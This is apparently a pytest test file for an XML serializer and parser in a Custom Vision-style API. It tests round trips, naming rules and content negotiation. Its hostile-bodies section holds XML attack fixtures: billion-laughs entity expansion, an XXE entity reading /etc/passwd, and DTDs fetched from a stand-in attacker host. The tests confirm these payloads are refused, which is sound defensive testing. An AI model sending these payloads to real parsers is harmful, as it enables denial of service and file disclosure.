from __future__ import annotations

import datetime as dt
import enum
import re
import uuid
from typing import Literal
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, ConfigDict, Field, ValidationError
from pydantic.alias_generators import to_camel

from opencustomvision.api.xml import (
    XML_MEDIA_TYPES,
    XmlBodyError,
    dump_xml,
    is_xml_content_type,
    load_xml,
    wants_xml,
    xml_name,
)

pytestmark = pytest.mark.db_independent

# ---------------------------------------------------------------------------
# Test models, shaped like the spec's definitions and the lead's schemas


class CamelModel(BaseModel):
    model_config = ConfigDict(populate_by_name=True, alias_generator=to_camel, extra="ignore")


class Region(CamelModel):
    tag_id: uuid.UUID = Field(alias="tagId")
    left: float
    top: float
    width: float
    height: float


class ImageUrlCreateEntry(CamelModel):
    url: str
    tag_ids: list[uuid.UUID] | None = Field(None, alias="tagIds")
    regions: list[Region] | None = None


class ImageUrlCreateBatch(CamelModel):
    images: list[ImageUrlCreateEntry] | None = None
    tag_ids: list[uuid.UUID] | None = Field(None, alias="tagIds")
    metadata: dict[str, str] | None = None


class ImageTag(CamelModel):
    tag_id: uuid.UUID
    tag_name: str
    created: dt.datetime


class Image(CamelModel):
    id: uuid.UUID
    created: dt.datetime
    width: int
    height: int
    resized_image_uri: str | None = None
    tags: list[ImageTag] | None = None
    metadata: dict[str, str] | None = None


class ImageCreateStatus(str, enum.Enum):
    OK = "OK"
    OK_DUPLICATE = "OKDuplicate"
    ERROR_SOURCE = "ErrorSource"


class ImageCreateResult(CamelModel):
    source_url: str | None = None
    status: ImageCreateStatus
    image: Image | None = None


class ImageCreateSummary(CamelModel):
    is_batch_successful: bool
    images: list[ImageCreateResult]


class Iteration(CamelModel):
    name: str
    domain_id: uuid.UUID | None = None
    exportable_to: list[Literal["CoreML", "TensorFlow", "ONNX"]] = Field(default_factory=list)
    classification_type: Literal["Multiclass", "Multilabel"] | None = None


class Renamed(CamelModel):
    __xml_name__ = "SomethingElse"
    value: int


class TreeNode(CamelModel):
    children: list[TreeNode] | None = None


TAG_ID = uuid.UUID("11111111-2222-3333-4444-555555555555")
IMAGE_ID = uuid.UUID("aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee")
CREATED = dt.datetime(2024, 5, 6, 7, 8, 9, 123456, tzinfo=dt.timezone.utc)


def make_summary() -> ImageCreateSummary:
    image = Image(
        id=IMAGE_ID,
        created=CREATED,
        width=640,
        height=480,
        resized_image_uri="https://example.test/i?a=1&b=<2>",
        tags=[ImageTag(tag_id=TAG_ID, tag_name="Cat & Dog", created=CREATED)],
        metadata={"camera": "Nikon", "note": "it's \"quoted\" <b>"},
    )
    return ImageCreateSummary(
        is_batch_successful=False,
        images=[
            ImageCreateResult(source_url="https://example.test/1.jpg", status=ImageCreateStatus.OK, image=image),
            ImageCreateResult(source_url="https://example.test/2.jpg", status=ImageCreateStatus.ERROR_SOURCE),
        ],
    )


def make_batch() -> ImageUrlCreateBatch:
    return ImageUrlCreateBatch(
        images=[
            ImageUrlCreateEntry(
                url="https://example.test/a.png",
                tag_ids=[TAG_ID],
                regions=[Region(tag_id=TAG_ID, left=0.1, top=0.2, width=0.30000000000000004, height=1e-7)],
            ),
            ImageUrlCreateEntry(url="https://example.test/b.png"),
        ],
        tag_ids=[TAG_ID, IMAGE_ID],
        metadata={"k1": "v1", "k2": ""},
    )


def parse(xml_bytes: bytes) -> ElementTree.Element:
    return ElementTree.fromstring(xml_bytes)


# ---------------------------------------------------------------------------
# dump_xml


def test_model_is_written_with_spec_names_in_field_order() -> None:
    xml_bytes = dump_xml(make_summary())
    assert xml_bytes.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    root = parse(xml_bytes)
    assert root.tag == "ImageCreateSummary"
    assert [child.tag for child in root] == ["isBatchSuccessful", "images"]
    assert root.findtext("isBatchSuccessful") == "false"
    results = root.find("images")
    assert results is not None
    assert [child.tag for child in results] == ["ImageCreateResult", "ImageCreateResult"]
    first, second = results
    assert [child.tag for child in first] == ["sourceUrl", "status", "image"]
    assert [child.tag for child in second] == ["sourceUrl", "status"]  # None is omitted
    assert first.findtext("status") == "OK"
    image = first.find("image")
    assert image is not None
    assert [child.tag for child in image] == ["id", "created", "width", "height", "resizedImageUri", "tags", "metadata"]
    assert image.findtext("id") == str(IMAGE_ID)
    assert image.findtext("created") == "2024-05-06T07:08:09.123456Z"
    assert image.findtext("resizedImageUri") == "https://example.test/i?a=1&b=<2>"
    assert [tag.tag for tag in image.find("tags") or []] == ["ImageTag"]
    assert image.findtext("tags/ImageTag/tagName") == "Cat & Dog"
    entries = image.findall("metadata/KeyValueOfstringstring")
    assert [(entry.findtext("Key"), entry.findtext("Value")) for entry in entries] == [
        ("camera", "Nikon"),
        ("note", "it's \"quoted\" <b>"),
    ]


def test_primitive_lists_use_datacontract_item_names() -> None:
    root = parse(dump_xml(make_batch()))
    assert [child.tag for child in root.find("tagIds") or []] == ["guid", "guid"]
    iteration = parse(dump_xml(Iteration(name="x", exportable_to=["ONNX", "CoreML"])))
    assert [(child.tag, child.text) for child in iteration.find("exportableTo") or []] == [
        ("string", "ONNX"),
        ("string", "CoreML"),
    ]


def test_empty_list_field_is_an_empty_element() -> None:
    root = parse(dump_xml(Iteration(name="x")))
    exportable_to = root.find("exportableTo")
    assert exportable_to is not None and len(exportable_to) == 0


def test_floats_are_written_exactly() -> None:
    root = parse(dump_xml(make_batch()))
    region = root.find("images/ImageUrlCreateEntry/regions/Region")
    assert region is not None
    assert region.findtext("width") == "0.30000000000000004"
    assert region.findtext("height") == "1e-07"
    assert float(region.findtext("width") or "") == 0.1 + 0.2


def test_naive_datetimes_are_taken_as_utc_and_offsets_converted() -> None:
    naive = ImageTag(tag_id=TAG_ID, tag_name="t", created=dt.datetime(2024, 1, 2, 3, 4, 5))
    assert parse(dump_xml(naive)).findtext("created") == "2024-01-02T03:04:05Z"
    plus_two = dt.timezone(dt.timedelta(hours=2))
    shifted = ImageTag(tag_id=TAG_ID, tag_name="t", created=dt.datetime(2024, 1, 2, 3, 4, 5, tzinfo=plus_two))
    assert parse(dump_xml(shifted)).findtext("created") == "2024-01-02T01:04:05Z"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (5, b"<int>5</int>"),
        (0, b"<int>0</int>"),
        (True, b"<boolean>true</boolean>"),
        (False, b"<boolean>false</boolean>"),
        ("hi & bye", b"<string>hi &amp; bye</string>"),
    ],
)
def test_bare_values(value: int | bool | str, expected: bytes) -> None:
    assert dump_xml(value) == b"<?xml version='1.0' encoding='utf-8'?>\n" + expected


def test_none_is_a_nil_element() -> None:
    root = parse(dump_xml(None))
    assert root.tag == "anyType"
    assert root.get("{http://www.w3.org/2001/XMLSchema-instance}nil") == "true"


def test_list_of_models_is_wrapped_in_array_of() -> None:
    tags = [ImageTag(tag_id=TAG_ID, tag_name=name, created=CREATED) for name in ("a", "b")]
    root = parse(dump_xml(tags))
    assert root.tag == "ArrayOfImageTag"
    assert [child.tag for child in root] == ["ImageTag", "ImageTag"]
    assert [child.findtext("tagName") for child in root] == ["a", "b"]


def test_root_overrides_the_outer_name() -> None:
    assert parse(dump_xml(make_batch(), root="Batch")).tag == "Batch"
    tags = [ImageTag(tag_id=TAG_ID, tag_name="a", created=CREATED)]
    assert parse(dump_xml(tags, root="Tags")).tag == "Tags"


def test_empty_list_needs_a_root_name() -> None:
    with pytest.raises(ValueError, match="root="):
        dump_xml([])
    root = parse(dump_xml([], root=xml_name(list[ImageTag])))
    assert root.tag == "ArrayOfImageTag" and len(root) == 0


def test_dict_answer() -> None:
    root = parse(dump_xml({str(TAG_ID): 3}))
    assert root.tag == "ArrayOfKeyValueOfstringint"
    assert root.findtext("KeyValueOfstringint/Key") == str(TAG_ID)
    assert root.findtext("KeyValueOfstringint/Value") == "3"


@pytest.mark.parametrize(
    ("annotation", "expected"),
    [
        (ImageTag, "ImageTag"),
        (ImageTag | None, "ImageTag"),
        (list[ImageTag], "ArrayOfImageTag"),
        (list[uuid.UUID], "ArrayOfguid"),
        (dict[str, str], "ArrayOfKeyValueOfstringstring"),
        (dict[str, bool], "ArrayOfKeyValueOfstringboolean"),
        (int, "int"),
        (float, "float"),
        (bool, "boolean"),
        (str, "string"),
        (dt.datetime, "dateTime"),
        (ImageCreateStatus, "string"),
        (Renamed, "SomethingElse"),
    ],
)
def test_xml_name(annotation: object, expected: str) -> None:
    assert xml_name(annotation) == expected


def test_xml_name_override() -> None:
    assert parse(dump_xml(Renamed(value=1))).tag == "SomethingElse"


def test_text_is_escaped_and_carriage_returns_survive() -> None:
    tricky = "a < b && c > d ]]> \"q\" 'a' \r\n\ttab é 😀"
    batch = ImageUrlCreateBatch(metadata={tricky: tricky})
    assert load_xml(dump_xml(batch), ImageUrlCreateBatch) == batch


def test_characters_xml_cannot_carry_are_replaced() -> None:
    batch = ImageUrlCreateBatch(metadata={"k": "bell\x07 nul\x00 surrogate\ud800"})
    loaded = load_xml(dump_xml(batch), ImageUrlCreateBatch)
    assert loaded.metadata == {"k": "bell\ufffd nul\ufffd surrogate\ufffd"}


# ---------------------------------------------------------------------------
# Round trips


def test_round_trip_summary() -> None:
    summary = make_summary()
    assert load_xml(dump_xml(summary), ImageCreateSummary) == summary


def test_round_trip_batch() -> None:
    batch = make_batch()
    assert load_xml(dump_xml(batch), ImageUrlCreateBatch) == batch


def test_round_trip_empty_model() -> None:
    assert load_xml(dump_xml(ImageUrlCreateBatch()), ImageUrlCreateBatch) == ImageUrlCreateBatch()
    emptied = ImageUrlCreateBatch(images=[], tag_ids=[], metadata={})
    assert load_xml(dump_xml(emptied), ImageUrlCreateBatch) == emptied


def test_round_trip_literals() -> None:
    iteration = Iteration(name="  spaced  ", exportable_to=["ONNX"], classification_type="Multilabel")
    assert load_xml(dump_xml(iteration), Iteration) == iteration


def _xml_text(**kwargs: int) -> st.SearchStrategy[str]:
    # Text that XML 1.0 can carry; everything else is replaced on the way out.
    return st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), **kwargs).filter(
        lambda text: re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", text) is None
    )


_finite_floats = st.floats(allow_nan=False, allow_infinity=False)
_regions = st.builds(
    Region, tag_id=st.uuids(), left=_finite_floats, top=_finite_floats, width=_finite_floats, height=_finite_floats
)
_entries = st.builds(
    ImageUrlCreateEntry,
    url=_xml_text(),
    tag_ids=st.none() | st.lists(st.uuids(), max_size=3),
    regions=st.none() | st.lists(_regions, max_size=3),
)
_batches = st.builds(
    ImageUrlCreateBatch,
    images=st.none() | st.lists(_entries, max_size=3),
    tag_ids=st.none() | st.lists(st.uuids(), max_size=3),
    metadata=st.none() | st.dictionaries(_xml_text(max_size=10), _xml_text(max_size=10), max_size=4),
)


@settings(max_examples=200)
@given(_batches)
def test_round_trip_any_batch(batch: ImageUrlCreateBatch) -> None:
    assert load_xml(dump_xml(batch), ImageUrlCreateBatch) == batch


# ---------------------------------------------------------------------------
# load_xml of hand-written XML

DATACONTRACT_BATCH = b"""<?xml version="1.0" encoding="utf-8"?>
<ImageUrlCreateBatch xmlns="http://schemas.datacontract.org/2004/07/Microsoft.Cognitive.CustomVision.Training.Models"
                     xmlns:i="http://www.w3.org/2001/XMLSchema-instance"
                     xmlns:a="http://schemas.microsoft.com/2003/10/Serialization/Arrays">
  <Images>
    <ImageUrlCreateEntry>
      <Url>https://example.test/a.png</Url>
      <TagIds>
        <a:guid>11111111-2222-3333-4444-555555555555</a:guid>
      </TagIds>
      <Regions>
        <Region>
          <TagId> 11111111-2222-3333-4444-555555555555 </TagId>
          <Left>0.1</Left>
          <Top>0.2</Top>
          <Width>0.5</Width>
          <Height>
            0.25
          </Height>
        </Region>
      </Regions>
    </ImageUrlCreateEntry>
    <ImageUrlCreateEntry>
      <Url>https://example.test/b.png</Url>
      <TagIds i:nil="true"/>
      <Regions i:nil="true"/>
    </ImageUrlCreateEntry>
  </Images>
  <TagIds i:nil="true" />
  <Metadata>
    <a:KeyValueOfstringstring>
      <a:Key>camera</a:Key>
      <a:Value>Nikon D750</a:Value>
    </a:KeyValueOfstringstring>
    <a:KeyValueOfstringstring>
      <a:Key>empty</a:Key>
      <a:Value></a:Value>
    </a:KeyValueOfstringstring>
  </Metadata>
  <SomethingUnknown><Deep>ignored</Deep></SomethingUnknown>
</ImageUrlCreateBatch>
"""


def test_load_pascal_case_datacontract_xml() -> None:
    batch = load_xml(DATACONTRACT_BATCH, ImageUrlCreateBatch)
    assert batch == ImageUrlCreateBatch(
        images=[
            ImageUrlCreateEntry(
                url="https://example.test/a.png",
                tag_ids=[TAG_ID],
                regions=[Region(tag_id=TAG_ID, left=0.1, top=0.2, width=0.5, height=0.25)],
            ),
            ImageUrlCreateEntry(url="https://example.test/b.png", tag_ids=None, regions=None),
        ],
        tag_ids=None,
        metadata={"camera": "Nikon D750", "empty": ""},
    )


def test_load_accepts_snake_case_names_and_any_root_and_item_names() -> None:
    body = b"""<whatever><tag_ids><x>11111111-2222-3333-4444-555555555555</x></tag_ids>
    <IMAGES><item><URL>u</URL></item></IMAGES></whatever>"""
    assert load_xml(body, ImageUrlCreateBatch) == ImageUrlCreateBatch(
        tag_ids=[TAG_ID], images=[ImageUrlCreateEntry(url="u")]
    )


def test_load_metadata_as_plain_elements() -> None:
    body = b"<ImageUrlCreateBatch><metadata><key1>value 1</key1><key2/></metadata></ImageUrlCreateBatch>"
    assert load_xml(body, ImageUrlCreateBatch).metadata == {"key1": "value 1", "key2": ""}


def test_load_bare_dictionary_body() -> None:
    # UpdateImageMetadata takes a bare dict[str, str] as its body.
    body = b"<ArrayOfKeyValueOfstringstring><KeyValueOfstringstring><Key>k</Key><Value>v</Value></KeyValueOfstringstring></ArrayOfKeyValueOfstringstring>"
    assert load_xml(body, dict[str, str]) == {"k": "v"}


def test_load_keeps_whitespace_in_strings() -> None:
    body = b"<ImageUrlCreateEntry><url>  padded\n</url></ImageUrlCreateEntry>"
    assert load_xml(body, ImageUrlCreateEntry).url == "  padded\n"


def test_load_booleans_and_enums() -> None:
    body = b"""<ImageCreateSummary><IsBatchSuccessful> true </IsBatchSuccessful><Images>
      <ImageCreateResult><Status>OKDuplicate</Status><Image i:nil="true" xmlns:i="http://www.w3.org/2001/XMLSchema-instance"/></ImageCreateResult>
    </Images></ImageCreateSummary>"""
    summary = load_xml(body, ImageCreateSummary)
    assert summary == ImageCreateSummary(
        is_batch_successful=True, images=[ImageCreateResult(status=ImageCreateStatus.OK_DUPLICATE)]
    )


def test_type_errors_are_pydantic_validation_errors() -> None:
    with pytest.raises(ValidationError):
        load_xml(b"<ImageUrlCreateBatch><tagIds><guid>not-a-uuid</guid></tagIds></ImageUrlCreateBatch>", ImageUrlCreateBatch)
    with pytest.raises(ValidationError):
        load_xml(b"<ImageUrlCreateEntry/>", ImageUrlCreateEntry)  # url is required
    with pytest.raises(ValidationError):
        load_xml(b"<ImageUrlCreateBatch><images>text</images></ImageUrlCreateBatch>", ImageUrlCreateBatch)


def test_child_elements_where_a_value_belongs_are_refused() -> None:
    with pytest.raises(XmlBodyError, match="child elements"):
        load_xml(b"<ImageUrlCreateEntry><url><a>b</a></url></ImageUrlCreateEntry>", ImageUrlCreateEntry)


def test_key_value_entry_without_value_is_refused() -> None:
    with pytest.raises(XmlBodyError, match="no <Value>"):
        load_xml(b"<x><metadata><KeyValueOfstringstring><Key>k</Key></KeyValueOfstringstring></metadata></x>", ImageUrlCreateBatch)


def test_deeply_nested_recursive_model_is_refused() -> None:
    body = b"<TreeNode>" + b"<children><TreeNode>" * 200 + b"</TreeNode></children>" * 200 + b"</TreeNode>"
    with pytest.raises(XmlBodyError, match="nested deeper"):
        load_xml(body, TreeNode)


# ---------------------------------------------------------------------------
# Hostile and malformed bodies

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ImageUrlCreateBatch><metadata><KeyValueOfstringstring><Key>k</Key><Value>&lol9;</Value></KeyValueOfstringstring></metadata></ImageUrlCreateBatch>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ImageUrlCreateEntry><url>&xxe;</url></ImageUrlCreateEntry>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY % remote SYSTEM "http://attacker.test/evil.dtd"> %remote; ]>
<ImageUrlCreateEntry><url>x</url></ImageUrlCreateEntry>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ImageUrlCreateEntry SYSTEM "http://attacker.test/evil.dtd">
<ImageUrlCreateEntry><url>x</url></ImageUrlCreateEntry>
"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD])
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(XmlBodyError):
        load_xml(body, ImageUrlCreateBatch)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   ",
        b"not xml",
        b"<ImageUrlCreateBatch>",
        b"<a></b>",
        b"<a>&undefined;</a>",
        b"<a:b/>",
        b"<a/><b/>",
        b'<?xml version="1.0" encoding="klingon"?><a/>',
        "<a>é</a>".encode("latin-1"),
    ],
)
def test_malformed_xml_is_refused(body: bytes) -> None:
    with pytest.raises(XmlBodyError):
        load_xml(body, ImageUrlCreateBatch)


@settings(max_examples=300)
@given(st.binary(max_size=200) | _xml_text(max_size=200).map(lambda text: f"<x><metadata>{text}</metadata></x>".encode()))
def test_arbitrary_bodies_raise_only_xml_or_validation_errors(body: bytes) -> None:
    try:
        load_xml(body, ImageUrlCreateBatch)
    except (XmlBodyError, ValidationError):
        pass


# ---------------------------------------------------------------------------
# Content negotiation


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        (None, False),
        ("", False),
        ("*/*", False),
        ("application/json", False),
        ("application/xml", True),
        ("text/xml", True),
        ("Application/XML; charset=utf-8", True),
        ("application/json, application/xml", False),  # a tie goes to JSON
        ("application/xml, application/json;q=0.9", True),
        ("application/xml;q=0.5, application/json;q=0.9", False),
        ("text/xml;q=0.8, application/json;q=0.2", True),
        ("application/xml, */*;q=0.1", True),
        ("*/*;q=0.1, application/xml", True),
        ("application/json;q=0, */*", True),
        ("application/xml;q=0", False),
        ("text/*", True),
        ("application/*", False),
        ("text/html, application/xhtml+xml, application/xml;q=0.9, */*;q=0.8", True),
        ("application/xml;q=abc", False),
        ("application/xml;q=2", False),
        ("garbage, ;;;, /", False),
    ],
)
def test_wants_xml(accept: str | None, expected: bool) -> None:
    assert wants_xml(accept) is expected


@pytest.mark.parametrize(
    ("content_type", "expected"),
    [
        (None, False),
        ("", False),
        ("application/json", False),
        ("application/xml", True),
        ("text/xml; charset=utf-8", True),
        (" Text/XML ", True),
        ("application/xhtml+xml", False),
    ],
)
def test_is_xml_content_type(content_type: str | None, expected: bool) -> None:
    assert is_xml_content_type(content_type) is expected


def test_xml_media_types() -> None:
    assert XML_MEDIA_TYPES == ("application/xml", "text/xml")
